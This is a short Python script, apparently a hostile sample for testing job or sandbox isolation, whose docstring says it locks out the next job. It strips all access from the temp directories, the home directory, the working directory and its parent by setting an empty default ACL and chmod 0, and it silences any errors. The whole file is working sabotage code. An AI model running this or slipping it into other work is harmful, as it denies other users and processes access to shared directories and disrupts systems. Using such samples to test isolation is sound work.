"""Change the work directory and the other writable folders themselves: modes that shut the next job out.

Shows: honest jobs go wrong.
"""

import os
import tempfile
from contextlib import suppress

for place in {tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.getcwd(), ".."}:
    with suppress(OSError):
        os.setxattr(
            place, "system.posix_acl_default", bytes.fromhex("02000000010000ffffffff04000000ffffffff20000000ffffffff")
        )
    with suppress(OSError):
        os.chmod(place, 0)
